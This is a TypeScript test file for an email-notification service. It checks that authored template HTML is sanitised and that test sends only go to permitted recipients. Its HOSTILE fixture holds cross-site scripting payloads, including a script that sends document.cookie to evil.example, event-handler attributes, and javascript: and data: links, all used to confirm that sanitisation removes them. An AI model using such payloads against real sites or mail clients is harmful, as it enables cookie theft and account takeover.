import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NOTIFICATION_MESSAGES as M, type TOutbox } from '@mailcraft/shared';
import { createMailingList, createProject, onPlan, us500 } from '../../test/factories.js';
import { createTestApp, signUpUser, type TestApp, type TestUser } from '../../test/harness.js';
import { composeScanMessage } from './notification-message.js';
import type { NotificationRow } from './notifications.repo.js';

/** HTML an author could paste into an email template: scripts, event handlers, javascript: and data: links. */
const HOSTILE = [
  '<p onclick="steal()">Hello {{ first_name }}</p>',
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '<img src="https://img.example/logo.png" onerror="steal()" alt="Logo">',
  '<a href="javascript:steal()">Open</a> <a href="JaVaScRiPt&colon;steal()">Again</a> <a href="data:text/html;base64,PHNjcmlwdD4=">Data</a>',
  '<a href="https://shop.example/offer" target="_blank">Offer</a>',
  '<iframe src="https://evil.example"></iframe><style>body{background:url(javascript:steal())}</style>',
  '<svg onload="steal()"><circle r="1"/></svg><form action="https://evil.example"><input name="p"></form>',
  '<b>Bold</b> <em>kept</em>',
].join('\n');

/** The parts of HTML that would run code or leave the page when a mail client renders it. */
const expectInert = (html: string) => {
  expect(html).not.toMatch(/<script|<iframe|<style|<svg|<form|<input/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/javascript|data:text/i);
  expect(html).not.toContain('steal()');
};

describe('notification emails: authored HTML is sanitised', () => {
  it('keeps formatting and safe links, drops scripts, handlers and javascript: or data: links (scan mail)', async () => {
    const n = {
      id: 'n', name: 'Team', type: 'email', emailRecipients: 'team@example.com', subject: 'Scan', emailTemplate: HOSTILE,
    } as NotificationRow;
    const message = await composeScanMessage(n, undefined, { first_name: '<script>x()</script>Jane' });
    if (message.channel !== 'mail') throw new Error('mail expected');
    expectInert(message.html!);
    expect(message.html).toContain('<a href="https://shop.example/offer" target="_blank"');
    expect(message.html).toContain('<img src="https://img.example/logo.png" alt="Logo" />');
    expect(message.html).toContain('<b>Bold</b> <em>kept</em>');
    // A value stays escaped text, never markup.
    expect(message.html).toContain('Hello &lt;script&gt;x()&lt;/script&gt;Jane');
  });
});

describe('notification test sends', () => {
  let t: TestApp;
  let owner: TestUser;
  let projectId: string;
  let listId: string;
  beforeAll(async () => {
    t = await createTestApp({ workers: false });
    await signUpUser(t.app); // the operator
    owner = await signUpUser(t.app);
    await onPlan(t.ctx.db, owner.id, 'pro');
    projectId = (await createProject(t.ctx.db, owner.id)).id;
    listId = (await createMailingList(t.ctx.db, owner.id, { ...us500(3), projectId })).id;
  });
  afterAll(() => t?.close());

  const outbox = async () => ((await owner.req({ method: 'GET', url: '/api/outbox' })).json() as TOutbox).messages;
  const testEmail = (recipients: string, content?: string) =>
    owner.req({ method: 'POST', url: '/api/notifications/email/test', payload: { recipients, subject: 'Hi {{ first_name }}', content } });
  const testSms = (phoneNumber: string) =>
    owner.req({ method: 'POST', url: '/api/notifications/sms/test', payload: { phoneNumber, carrierId: 'verizon' } });

  it('sends the outbox an email whose HTML has no script, handler or javascript: link', async () => {
    const res = await testEmail(owner.email, HOSTILE);
    expect(res.statusCode, res.body).toBe(200);
    const [mail] = await outbox();
    expect(mail.to).toBe(owner.email);
    expectInert(mail.html!);
    expect(mail.html).toContain('<a href="https://shop.example/offer"');
  });

  it('goes only to the account\'s own email or to addresses already saved in its notifications; strangers are refused', async () => {
    const before = (await outbox()).length;
    for (const res of [await testEmail('stranger@example.net'), await testEmail(`${owner.email}, stranger@example.net`), await testSms('555-987-6543')]) {
      expect(res.statusCode, res.body).toBe(403);
      expect(res.json().error).toMatchObject({ code: 'FORBIDDEN', message: expect.stringContaining(M.testRecipientRefused) });
    }
    expect((await testEmail('stranger@example.net')).json().error.message).toContain('stranger@example.net');
    expect(await outbox()).toHaveLength(before);

    // Saved in a notification, an address may be tested (any case, any formatting of the number).
    const save = (body: object) => owner.req({ method: 'POST', url: '/api/notifications', payload: { project_id: projectId, mailing_list_id: listId, ...body } });
    expect((await save({ type: 'email', name: 'Team', email_recipients: 'Sales@Example.com, boss@example.org' })).statusCode).toBe(201);
    expect((await save({ type: 'sms', name: 'Phone', phone_number: '(555) 987-6543', carrier_id: 'verizon' })).statusCode).toBe(201);
    expect((await testEmail(`sales@example.com, BOSS@example.org, ${owner.email.toUpperCase()}`)).statusCode).toBe(200);
    expect((await testSms('555.987.6543')).statusCode).toBe(200);
    expect((await outbox()).length).toBe(before + 2);
    // Another user's saved addresses do not count.
    const other = await signUpUser(t.app);
    await onPlan(t.ctx.db, other.id, 'pro');
    const foreign = await other.req({ method: 'POST', url: '/api/notifications/email/test', payload: { recipients: 'sales@example.com' } });
    expect(foreign.statusCode).toBe(403);
  });
});
